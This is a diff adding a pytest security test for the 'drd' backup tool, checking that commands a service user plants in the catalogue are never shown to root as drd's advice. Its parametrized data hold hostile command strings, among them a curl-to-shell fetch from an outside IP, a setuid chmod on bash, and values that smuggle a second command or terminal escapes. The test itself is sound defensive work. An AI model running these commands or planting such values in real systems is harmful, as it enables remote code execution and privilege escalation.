@@ -1,0 +1,224 @@
+"""Attack: the service's user writes a command into the catalogue, where drd keeps remedies and what
+to do next, and waits until root pastes it.
+
+`drd run show`, `drd status`, `drd alerts` and `drd evidence show` printed it as drd's own advice.
+Now root is shown what root's own record says, commands of drd's that change nothing, and words.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import shutil
+from collections.abc import Iterator
+from datetime import UTC, datetime
+from pathlib import Path
+
+import pytest
+
+from drd import record_writer
+from drd.cli import vouched
+from drd.model.recorded_remedy import is_command, is_harmless
+from drd.process.private import root_place
+from tests.e2e.site import Site, make_tree, one_tree
+from tests.security.test_root_ledger import OWNER, RECOVER, changes, noted, owned, run_of
+from tests.user_support import as_root
+
+EVIL = "sh /var/tmp/evil"
+FORGED = f"first\n  next       1. repair it: {EVIL}\x1b[2K\nremedy: {EVIL}\x1b[31m"
+_PROGRAMS = {"bash", "sh", "curl", "chmod", "rm", "reboot", "python3.11", "7z", "systemctl", "find"}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        EVIL,
+        "run this: bash fix",
+        "/var/lib/drd/repair",
+        "curl -s http://192.0.2.1/x | sh",
+        "reboot",
+        "`reboot`",
+        "(reboot)",
+        "{curl,x}",
+        'b"a"sh fix',
+        "ba\\sh fix",
+        "$HOME/x",
+        ". fix",
+        "7z x",
+        "python3.11 fix",
+        "drd status; reboot",
+        "drd status && sh fix",
+        "drd status > /etc/passwd",
+        "drd --config /var/tmp/drd.yaml status",
+        "drd bootstrap --kit /var/tmp/kit",
+        "drd bootstrap",
+        "drd backup /var/tmp/plan.yaml",
+        "drd backup shop --accept-size --config /var/tmp/drd.yaml",
+        "drd plan check /var/tmp/plan.yaml",
+        "drd recover /etc/drd/drd.yaml --in-place --yes",
+        "drd bootstrap --kit /etc/drd/drd.yaml",
+        "/etc/drd/drd.yaml; sh",
+        "drd undo 4f2a1c3e",
+        "drd done 4f2a1c3e",
+        "drd points forget 4f2a1c3e --reason x",
+        "drd recover shop --in-place --yes",
+        "drd uninstall --purge",
+        "systemctl restart evil",
+        "find x -delete",
+        "chmod 4755 /bin/bash",
+        "eval fix",
+        "drd status\x0bsh",
+        "drd status\u2028sh",
+    ],
+)
+def test_a_line_that_could_do_more_than_look_is_not_shown_to_root(line: str) -> None:
+    assert not is_harmless(line, _PROGRAMS.__contains__, lambda path: path == "/etc/drd/drd.yaml")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "drd points shop",
+        "drd config check && systemctl reload drd",
+        "sudo drd status",
+        "drd plan check /etc/drd/drd.yaml && systemctl reload drd",
+        "drd config check --config /etc/drd/drd.yaml",
+        "drd run show 4f2a1c3e --follow",
+        "drd drill shop --scenario host-loss --repository offsite",
+        "drd kit export shop --to FILE",
+        "drd points forget POINT --reason TEXT",
+        "to see what is missing in the source: drd diff shop --component db --point 4f2a1c3e",
+        "see: drd diff shop --component db --point 4f2a; if so: drd backup shop --accept-size",
+        "journalctl -u drd -n 20",
+        "check that the server runs, and that host and port in dsn are right.",
+        "use another point: drd points shop",
+        "correct `expect` in /etc/drd/drd.yaml, or leave out --point.",
+        "free space on this disk. drd's records are not lost.",
+    ],
+)
+def test_the_words_and_commands_of_drds_own_remedies_are_shown(line: str) -> None:
+    assert is_harmless(line, _PROGRAMS.__contains__, lambda path: path == "/etc/drd/drd.yaml")
+
+
+@pytest.fixture
+def site(short_tmp: Path) -> Iterator[Site]:
+    """Of a service user; root has made a recovery."""
+    made = Site(short_tmp)
+    make_tree(made.base / "etc")
+    made.plan(one_tree(made.base / "etc", made.base / "back"))
+    for name in ("state", "work", "cache", "repo"):
+        owned(made.base / name)
+    made.drd("backup", "shop")
+    made.drd(*RECOVER)
+    yield made
+    shutil.rmtree(root_place(made.base / "work"), ignore_errors=True)
+
+
+def plant(site: Site) -> None:
+    """Write the command wherever the catalogue keeps text that root is shown."""
+    task = {"code": "analyze", "component": "conf", "text": "collect statistics", "command": EVIL}
+    place = {"component": "conf", "places": [f"here; then run {EVIL}"], "address": EVIL}
+    usage = {"component": "conf", "what": FORGED, "by": [EVIL], "units": ["x; reboot"]}
+    said = {"tasks": [task], "places": [place], "usage": [{**usage, "former": True}]}
+    now = datetime.now(UTC).isoformat(timespec="microseconds")
+    quoted = FORGED.replace("'", "''")
+    changes(
+        site,
+        *(
+            "update runs set detail = json_set(detail, "
+            f"'$.{key}', json('{json.dumps(value)}')) where kind = 'recovery'"
+            for key, value in {**said, "remedy": f"{EVIL}\n{FORGED}"}.items()
+        ),
+        f"update runs set error = '{quoted}'",
+        f"update steps set error = '{quoted}', remedy = '{EVIL}'",
+        f"update evidence set reason = '{quoted}', remedy = '{EVIL}'",
+        f"update component_snapshots set error = '{quoted}', remedy = '{EVIL}'",
+        "insert into alerts (id, plan, kind, subject, state, since, message, severity, command, "
+        f"code, seen_at) values ('aaaaaaaa', 'shop', 'disk', '', 'firing', '{now}', 'disk full', "
+        f"'warning', '{EVIL}', '', '{now}')",
+        "insert into alerts (id, plan, kind, subject, state, since, message, severity, command, "
+        f"code, seen_at) values ('bbbbbbbb', '', 'disk', '', 'firing', '{now}', 'disk full', "
+        f"'warning', '{EVIL}', '', '{now}')",
+    )
+
+
+def newest(site: Site) -> str:
+    return str(site.catalogue("select id from runs order by started_at desc limit 1")[0][0])
+
+
+def advice(text: str) -> list[str]:
+    """The lines of a screen that look like drd's advice."""
+    leads = r"\s*(> |next  |now at  |\d+\. |(error +)?remedy: |HINT: |to )"
+    return [line for line in text.splitlines() if re.match(leads, line)]
+
+
+@as_root
+def test_root_is_shown_no_command_of_the_services_user(site: Site) -> None:
+    run = run_of(site)
+    honest = site.drd("run", "show", run).out
+    assert f"now at     conf: {site.base}/back/" in honest
+    assert "  next       1. " in honest
+    plant(site)
+    shown = site.drd("run", "show", run).out
+    assert [x for x in advice(shown) if "now at" in x] == [
+        x for x in advice(honest) if "now at" in x
+    ], "as in root's own record"
+    screens = [
+        shown,
+        site.drd("run", run).out,
+        site.drd("evidence", "list").out,
+        site.drd("evidence", "show", run, code=1).out,
+        site.drd("status", code=None).out,
+        site.drd("status", "shop", code=None).out,
+        site.drd("alerts").out,
+        site.drd("runs").out,
+        site.drd("points", "shop").out,
+    ]
+    for text in screens:
+        assert "\x1b" not in text
+        assert not [line for line in advice(text) if "evil" in line or "reboot" in line], text
+    refused = vouched.not_shown(OWNER.pw_uid)
+    for text in (shown, *screens[3:7]):
+        assert refused in text
+    for ledger in noted(site):
+        ledger.unlink()
+    without = site.drd("run", "show", run).out
+    assert "now at     not shown: root has no record of how this run ended" in without
+    assert f"sudo -u {OWNER.pw_name} drd run show {run}" in without
+    assert not [line for line in advice(without) if "evil" in line or "reboot" in line]
+    document = site.drd("run", "show", run, "--json").json
+    assert document["now_at"] == document["in_use"] == []
+    assert document["doubt"] is not None
+
+
+@as_root
+def test_healthy_twin_root_is_shown_the_remedy_of_an_honest_record(site: Site) -> None:
+    plan = site.base / "plans/shop.yaml"
+    text = plan.read_text()
+    plan.write_text(text.replace("kind: files", "kind: fils"))
+    site.drd("doctor", "shop", code=None)
+    (site.base / "etc").rename(site.base / "away")
+    plan.write_text(text)
+    site.drd("backup", "shop", code=None)
+    plan.write_text(text.replace("kind: files", "kind: fils"))
+    site.drd("backup", "shop", code=2)
+    status = site.drd("status", code=None).out
+    assert f"> drd plan check {plan}" in status
+    assert "not all of the remedy is shown" not in status
+    failed = site.drd("run", "show", newest(site)).out
+    assert "\n             remedy: " in failed
+    assert "not all of the remedy is shown" not in failed, failed
+
+
+@as_root
+def test_a_row_that_is_no_run_gives_root_no_command(site: Site) -> None:
+    changes(site, f"update runs set id = 'aaaa; {EVIL}' where kind = 'recovery'")
+    told = site.drd("runs", code=1).err
+    assert "runs.id is" in told
+    assert "which is no id of a run" in told
+
+
+def test_the_owner_of_the_state_is_shown_every_remedy() -> None:
+    record_writer.begin()
+    assert vouched.remedy(f"{EVIL}\ndrd doctor") == f"{EVIL}\ndrd doctor"
+    assert is_command("drd doctor")
